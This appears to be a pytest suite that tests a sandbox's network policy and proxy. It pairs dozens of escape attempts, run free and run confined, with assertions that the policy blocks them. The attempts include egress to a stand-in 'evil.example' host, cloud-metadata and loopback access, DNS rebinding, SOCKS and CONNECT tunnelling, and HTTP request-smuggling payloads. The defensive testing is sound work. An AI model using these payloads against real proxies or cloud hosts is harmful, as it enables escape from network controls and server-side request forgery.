"""The network part of the escape matrix: each way leads outside without the policy, and not with it.

Outside is a network namespace (harness/outside.py). A way is an expression of Python that the
attacker evaluates. Without the policy it runs unconfined, or with a proxy that allows everything.
"""

import os
import socket
import subprocess
import sys

import pytest

from harness import outside, procfs
from harness.outside import EVIL, MARK, PUBLIC, V6, proxy
from harness.settings import BINARY, PATIENCE

if not outside.available():
    pytest.skip("this user can make no network namespace", allow_module_level=True)

# The rules that hold: some hosts are allowed, others are denied or on no list.
RULES = {"allowed.example": "allow", "*.wild.example": "allow", "evil.example": "deny",
         "loop.example": "allow", "loop6.example": "allow", "inner.example": "allow",
         "meta.example": "allow", "mixed.example": "allow", "mapped.example": "allow",
         "nat.example": "allow", "rebind.example": "allow", "alias.example": "allow",
         "2130706433.example": "allow"}
# The same without one allowed host: what is denied is all that stands in the way.
EVERYTHING = {"*": "allow", "evil.example": "deny", "evil-wild.example": "deny", "b\u00fccher.example": "deny", EVIL: "deny"}
OPEN = {"*": "allow", "localhost": "allow"}


@pytest.fixture(scope="module")
def world(nothing_left):  # pylint: disable=unused-argument
    made = outside.World(BINARY)
    yield made
    made.close()


def udp(address):
    family = "socket.AF_INET6" if ":" in address else "socket.AF_INET"
    return (f"[s := socket.socket({family}, socket.SOCK_DGRAM), "
            f"s.connect(('{address}', 7777)), s.send(b'x'), s.recv(99).decode()][-1]")


# Ways past the proxy. Without the policy they run unconfined.
DIRECT = {
    "tcp": f"plain('{PUBLIC}')",
    "udp": udp(PUBLIC),
    "icmp": "[s := socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), "
            f"s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('{PUBLIC}', 0)), s.recv(99) and "
            f"'{MARK}'][-1]",
    "ping": f"[s := socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP), '{MARK}'][-1]",
    "raw": f"[socket.socket(socket.AF_INET, socket.SOCK_RAW, 255), '{MARK}'][-1]",
    "raw6": f"[socket.socket(socket.AF_INET6, socket.SOCK_RAW, 255), '{MARK}'][-1]",
    "packet": f"[socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)), '{MARK}'][-1]",
    "netlink": f"[socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0), '{MARK}'][-1]",
    "vsock": f"[socket.socket(40, socket.SOCK_STREAM), '{MARK}'][-1]",
    "ipv6": f"plain('{V6}')",
    "mapped": f"plain('::ffff:{PUBLIC}')",
    "loopback": "plain('127.0.0.1')",
    "loopback6": "plain('::1')",
    "other loopback": "plain('127.9.9.9')",
    "this host": "plain('0.0.0.0')",
    "this host 6": "plain('::')",
    "loopback udp": udp("127.0.0.1"),
    "metadata": "plain('169.254.169.254')",
    "metadata6": "plain('fd00:ec2::254')",
    "link-local": "plain('fe80::1%lo')",
    "private 10": "plain('10.1.2.3')",
    "private 172": "plain('172.16.5.5')",
    "private 192": "plain('192.168.7.7')",
    "shared": "plain('100.64.1.1')",
    "dns udp": "[s := socket.socket(socket.AF_INET, socket.SOCK_DGRAM), "
               "s.connect(('127.0.0.1', 53)), s.send(query('allowed.example')), "
               f"s.recv(512)[:2] == b'\\x12\\x34' and '{MARK}'][-1]",
    "dns tcp": "[s := socket.create_connection(('127.0.0.1', 53)), q := query('allowed.example'), "
               "s.sendall(struct.pack('>H', len(q)) + q), "
               f"s.recv(512)[2:4] == b'\\x12\\x34' and '{MARK}'][-1]",
    "outer dns udp": "[s := socket.socket(socket.AF_INET, socket.SOCK_DGRAM), "
                     f"s.connect(('{PUBLIC}', 53)), s.send(query('allowed.example')), "
                     f"s.recv(512)[:2] == b'\\x12\\x34' and '{MARK}'][-1]",
    "outer dns tcp": f"[s := socket.create_connection(('{PUBLIC}', 53)), "
                     "q := query('allowed.example'), s.sendall(struct.pack('>H', len(q)) + q), "
                     f"s.recv(512)[2:4] == b'\\x12\\x34' and '{MARK}'][-1]",
    "resolver": f"socket.getaddrinfo('allowed.example', 80) and '{MARK}'",
    "variables unset": "[os.environ.pop(k) for k in list(os.environ) if 'proxy' in k.lower()] and 0 "
                       "or plain('allowed.example')",
    "abstract socket": "[s := socket.socket(socket.AF_UNIX), "
                       "s.connect(b'\\0' + os.path.basename(sys.argv[1]).encode()), "
                       "s.recv(99).decode()][-1]",
    "file socket": "[s := socket.socket(socket.AF_UNIX), s.connect(sys.argv[1] + '/socket'), "
                   "s.recv(99).decode()][-1]",
    "datagram socket": f"[socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM), '{MARK}'][-1]",
}
# Some kernels have none of these, not even for the attacker without a policy.
MAY_BE_MISSING = {"ping", "vsock"}


@pytest.fixture(scope="module")
def direct(world):
    """By way: what came of it without the policy, and with it."""
    free = world.try_all(DIRECT.values(), held=False)
    held = world.try_all(DIRECT.values(), proxy(RULES))
    return dict(zip(DIRECT, zip(free, held)))


@pytest.mark.parametrize("way", DIRECT)
def test_past_the_proxy(direct, way):
    free, held = direct[way]
    assert MARK in free or way in MAY_BE_MISSING, free
    assert MARK not in held and held.startswith("FAILED"), held


def test_no_descriptor_is_inherited(world):
    listing = "print(sorted(os.readlink(f'/proc/self/fd/{f}') for f in os.listdir('/proc/self/fd')" \
              " if os.path.exists(f'/proc/self/fd/{f}') and int(f) > 2))"
    out = world.run(listing, proxy(RULES))
    assert "socket" not in out and "pipe" not in out and "anon" not in out


def test_a_descriptor_of_the_server_reaches_no_command(nothing_left):  # pylint: disable=unused-argument
    ours, theirs = socket.socketpair()
    number = theirs.fileno()
    made = outside.World(BINARY, pass_fds=(number,))
    pid, = [p for p in procfs.descendants(made.transport.pid)
            if os.path.samefile(f"/proc/{p}/exe", BINARY)]
    use = f"[s := socket.socket(fileno={number}), s.send(b'x'), '{MARK}'][-1]"
    with ours, theirs:
        same = os.readlink(f"/proc/self/fd/{number}")
        assert os.readlink(f"/proc/{pid}/fd/{number}") == same  # the server has it
        for policy, held in ((None, False), (proxy(RULES), True)):
            assert made.try_all([use], policy, held=held)[0].startswith("FAILED")
        made.close()


def test_proxy_of_another_sandbox(world):
    """Each proxy listens in the sandbox of its own command."""
    wait = "print(at('HTTP_PROXY')[1], flush=True); sys.stdin.read()"
    other = world.start(wait, proxy(OPEN, allowLocalBinding=True), pipeStdin=True)
    world.client.wait_output(other, b"\n")
    port = int(other.output())
    attack = f"talk(socket.create_connection(('127.0.0.1', {port})), " \
             "'GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')"
    assert MARK not in world.try_all([attack], proxy(RULES))[0]
    assert MARK not in world.try_all([attack], held=False)[0]  # nor anybody on the host
    world.client.terminate(other)
    world.client.wait_closed(other)


def test_outer_proxy_of_another_process(world):
    """A proxy of an unconfined process is on the host: the proxy of a sandbox does not lead there,
    though its address is allowed."""
    wait = "print(at('HTTP_PROXY')[1], flush=True); sys.stdin.read()"
    other = world.start(wait, proxy(OPEN), held=False, pipeStdin=True)
    world.client.wait_output(other, b"\n")
    port = int(other.output())
    inside = "'GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'"
    assert MARK in world.try_all(
        [f"talk(socket.create_connection(('127.0.0.1', {port})), {inside})"], held=False)[0]
    through = f"tunnel('127.0.0.1:{port}', {inside})"
    out = world.try_all([through], proxy({"127.0.0.1": "allow", "evil.example": "allow"}))[0]
    assert MARK not in out and "403" in out
    world.client.terminate(other)
    world.client.wait_closed(other)


# Ways through the proxy. Without the policy it allows everything.

def request(target, host=None, more=""):
    host = host or target.split("/")[2]
    return f"http('GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n{more}\\r\\n')"


INSIDE = "'GET / HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n'"
THROUGH = {
    # hosts on no list
    "a host": request("http://evil.example/"),
    "a literal": request(f"http://{EVIL}/"),
    "an IPv6 literal": request(f"http://[{V6}]/"),
    "a mapped literal": request(f"http://[::ffff:{EVIL}]/"),
    "connect to a literal": f"tunnel('{EVIL}:443', hello('allowed.example'))",
    "connect to another port": "tunnel('evil.example:8080', " + INSIDE.format("evil.example:8080") + ")",
    "connect to a host": "tunnel('evil.example:443', hello('evil.example'))",
    "socks to a host": "socks(named('evil.example', 7777))",
    "socks to a literal": f"socks(b'\\5\\1\\0\\1' + socket.inet_aton('{EVIL}') + b'\\x1e\\x61')",
    "socks to a literal as a name": f"socks(named('{EVIL}', 7777))",
    # local networks
    "loopback": request("http://127.0.0.1/"),
    "localhost": request("http://localhost/"),
    "0.0.0.0": request("http://0.0.0.0/"),
    "IPv6 loopback": request("http://[::1]/"),
    "mapped loopback": request("http://[::ffff:127.0.0.1]/"),
    "metadata": request("http://169.254.169.254/latest/meta-data"),
    "private": request("http://10.1.2.3/"),
    "shared": request("http://100.64.1.1/"),
    "socks to loopback": "socks(b'\\5\\1\\0\\1\\x7f\\0\\0\\1\\x1e\\x61')",
    # names
    "a name of loopback": request("http://loop.example/"),
    "a name of IPv6 loopback": request("http://loop6.example/"),
    "a name of a mapped address": request("http://mapped.example/"),
    "a name of a private address": request("http://inner.example/"),
    "a name of the metadata service": request("http://meta.example/"),
    "a name of both": "[" + ", ".join([request("http://mixed.example/")] * 4) + "]",
    "an alias of a denied name": request("http://alias.example/"),
    "a name of a denied address": request("http://front.example/"),
    "socks to a name of a denied address": "socks(named('front.example', 7777))",
    "socks to a name of loopback": "socks(named('loop.example', 7777))",
    "connect to a name of loopback": "tunnel('loop.example:443', hello('loop.example'))",
    # hosts in tunnels
    "another name in TLS": "tunnel('allowed.example:443', hello('evil.example'))",
    "another name in TLS by socks": "socks(named('allowed.example', 443), hello('evil.example'))",
    "another Host in a tunnel": "tunnel('allowed.example:80', " + INSIDE.format("evil.example") + ")",
    "another Host behind a line end":
        "tunnel('allowed.example:80', '\\r\\n' + " + INSIDE.format("evil.example") + ")",
    "another Host with a method of no server":
        "tunnel('allowed.example:80', " + INSIDE.replace("GET", "get").format("evil.example") + ")",
    "another Host by socks": "socks(named('allowed.example'), " + INSIDE.format("evil.example") + ")",
    # spellings
    "a trailing dot": request("http://evil.example./"),
    "upper case": request("http://EVIL.Example/"),
    "the end of a wildcard": request("http://evil-wild.example/"),
    "the wildcard itself": "tunnel('wild.example.evil.example:80', "
                           + INSIDE.format("evil.example") + ") + "
                           + request("http://evil.example/"),
    "punycode": request("http://xn--bcher-kva.example/"),
}


@pytest.fixture(scope="module")
def through(world):
    policy = proxy(OPEN, allowLocalBinding=True)
    free = world.try_all(THROUGH.values(), policy)
    held = world.try_all(THROUGH.values(), proxy(RULES))
    denied = world.try_all(THROUGH.values(), proxy(EVERYTHING))
    world.decisions()
    return dict(zip(THROUGH, zip(free, held, denied)))


@pytest.mark.parametrize("way", THROUGH)
def test_through_the_proxy(through, way):
    free, held, denied = through[way]
    assert MARK in free, free
    assert MARK not in held, held
    if V6 not in THROUGH[way]:
        assert MARK not in denied, denied


# Requests with two readings. The proxy refuses them whatever the policy is. Without it the attacker
# sends the bytes to the denied host, as a proxy would that takes the other reading.

def heads(target, host=None, more=""):
    host = host or target.split("/")[2]
    return f"'GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n{more}\\r\\n'"


def direct_to_evil(text, address=EVIL):
    return f"talk(socket.create_connection(('{address}', 80)), {text})"


def refused(text):
    return direct_to_evil(text), f"http({text})"


def refused_inside(text):
    return direct_to_evil(text), f"tunnel('allowed.example:80', {text})"


TWICE = {
    "another Host": refused(heads("http://allowed.example/", "evil.example")),
    "two Hosts": refused(heads("http://allowed.example/", more="Host: evil.example\\r\\n")),
    "user info": refused(heads("http://allowed.example@evil.example/", "evil.example")),
    "user info of another host": refused(
        heads("http://evil.example:80@allowed.example/", "allowed.example")),
    "percent": refused(heads("http://ev%69l.example/", "evil.example")),
    "not ASCII": refused(heads("http://b\\xfccher.example/")),
    "length and chunks": refused(
        "'POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
        "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
        "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'"),
    "two lengths": refused(
        "'POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
        "Content-Length: 5\\r\\nContent-Length: 0\\r\\n\\r\\nGET /'"),
    "a scope": (direct_to_evil(heads("/", "x"), "fe80::1%lo"),
                f"http({heads('http://[fe80::1%25lo]/')})"),
    "bind": (f"[s := socket.create_server(('0.0.0.0', 0)), socket.create_connection(('{PUBLIC}', "
             f"s.getsockname()[1])), s.accept(), '{MARK}'][-1]",
             "socks(named('allowed.example', 7777, 2))"),
    "udp associate": (udp(EVIL), "socks(named('evil.example', 7777, 3))"),
    "connect to a proxy": refused_inside(
        "'CONNECT evil.example:80 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'"),
    "HTTP/2 in a tunnel": refused_inside("'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'"),
    "length and chunks in a tunnel": refused_inside(
        "'POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
        "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'"),
}


@pytest.fixture(scope="module")
def twice(world):
    free = world.try_all([f for f, _ in TWICE.values()], held=False)
    held = world.try_all([h for _, h in TWICE.values()], proxy(RULES))
    denied = world.try_all([h for _, h in TWICE.values()],
                           proxy(EVERYTHING, enableSocks5Udp=True))
    world.decisions()
    return dict(zip(TWICE, zip(free, held, denied)))


@pytest.mark.parametrize("way", TWICE)
def test_two_readings(twice, way):
    free, held, denied = twice[way]
    assert MARK in free, free
    assert MARK not in held, held
    assert MARK not in denied, denied


def test_second_request(world):
    """Of two requests in one connection the second one is not forwarded; in a tunnel it is checked.
    """
    two = "'GET {0}/1 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n" \
          "GET {1}/2 HTTP/1.1\\r\\nHost: {2}\\r\\n\\r\\n'"
    plain = "http(" + two.format("http://allowed.example", "http://evil.example", "evil.example") + ")"
    inside = "tunnel('allowed.example:80', " + two.format("", "", "evil.example") + ")"
    good = "tunnel('allowed.example:80', " + two.format("", "", "allowed.example") + ", '')"
    outs = world.try_all([plain, inside, good], proxy(RULES))
    assert "/1\n" in outs[0] and "/2" not in outs[0]
    assert "/2" not in outs[1]
    assert "/1\n" in outs[2]
    assert {d["host"] for d in world.decisions() if d["decision"] == "deny"} == {"evil.example"}


def test_rebinding(world):
    """The first answer of the name server is public, all others are loopback. What was checked is
    what is connected."""
    attack = request("http://rebind.example/")
    outs = world.try_all([attack] * 6, proxy(RULES))
    assert f"{MARK} ::ffff:{PUBLIC}" in outs[0]
    assert all(MARK not in out and "not_allowed_local" in out for out in outs[1:])
    free = world.try_all([attack], proxy(OPEN, allowLocalBinding=True))[0]
    assert f"{MARK} ::ffff:127.0.0.1" in free
    world.decisions()


def test_xs_allows_a_name(tmp_path):
    """xs run --allow-domain, with a server of its own in such a world."""
    xs = os.path.join(os.path.dirname(BINARY), "xs")
    if not os.access(xs, os.X_OK):
        pytest.skip("xs is not beside the server")
    tmp_path.chmod(0o755)
    code = outside.PRELUDE + "print(get('http://allowed.example/'), get('http://evil.example/'))"
    done = subprocess.run(
        outside.unshare(sys.executable, os.path.abspath(outside.__file__), str(tmp_path), xs, "-H",
                        "local", "run", "--sandbox", "read-only", "--allow-domain",
                        "allowed.example", "--", "/usr/bin/python3", "-c", code),
        capture_output=True, text=True, timeout=PATIENCE, check=False)
    assert done.returncode == 0, done.stderr
    assert f"{MARK} ::ffff:{PUBLIC} host=allowed.example" in done.stdout
    assert '"host":"evil.example","reason":"not_allowed"' in done.stdout


def test_names_that_are_not_allowed_are_not_looked_up(world):
    """A name server hears of no name that the policy does not allow."""
    before = world.try_all(["plain('127.0.0.1')"], held=False)
    assert MARK in before[0]
    out = world.try_all([request("http://secret.rebind.example/")], proxy(RULES))[0]
    assert '"reason":"not_allowed"' in out
    world.decisions()
